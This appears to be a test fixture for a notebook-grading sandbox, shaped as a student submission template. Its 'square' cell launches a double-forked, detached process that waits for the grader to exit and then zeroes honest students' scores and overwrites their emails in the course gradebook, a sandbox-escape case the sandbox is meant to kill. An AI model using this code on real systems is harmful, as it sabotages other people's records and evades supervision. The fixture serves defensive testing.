# Kind 3: a detached process (its own session, double fork) that outlives the kernel, waits
# until the grading run is over (the grading process and the one that started it are gone),
# then rewrites the course gradebook: every honest student's cells get 0 points, and their
# e-mail field its mark. The sandbox must kill it with the kernel.
# %% square
# @@CODE@@
import os
import subprocess
import sys

print("started-@@NAME@@")
LATER = r'''
import os, sqlite3, sys, time
if os.fork():
    os._exit(0)
os.setsid()

def alive(pid):
    try:
        with open(f"/proc/{pid}/stat") as stat:
            return stat.read().rsplit(")", 1)[1].split()[0] not in "ZX"
    except OSError:
        return False

watched = [int(pid) for pid in sys.argv[2:]]
deadline = time.time() + 60
while time.time() < deadline and any(alive(pid) for pid in watched):
    time.sleep(0.1)
time.sleep(2)
with sqlite3.connect(os.path.join("@@COURSE@@", "gradebook.db"), timeout=10) as db:
    db.execute("update grade set auto_score = 0 where notebook_id in (select n.id from submitted_notebook n "
               "join submitted_assignment a on n.assignment_id = a.id where a.student_id like '%honest%')")
    db.execute("update student set email = ? where id like '%honest%'", (sys.argv[1],))
'''


def parent_of(pid):
    with open(f"/proc/{pid}/stat") as stat:
        return int(stat.read().rsplit(")", 1)[1].split()[1])


watched, pid = [], os.getpid()
for _ in range(2):  # the process that grades this notebook, and the one that started it
    pid = parent_of(pid)
    if pid <= 1:
        break
    watched.append(pid)
subprocess.run([sys.executable, "-c", LATER, "@@MARK@@", *map(str, watched)], start_new_session=True,
               stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)


def square(x):
    return x * x
# %% cube
# @@CODE@@
def cube(x):
    return x ** 3
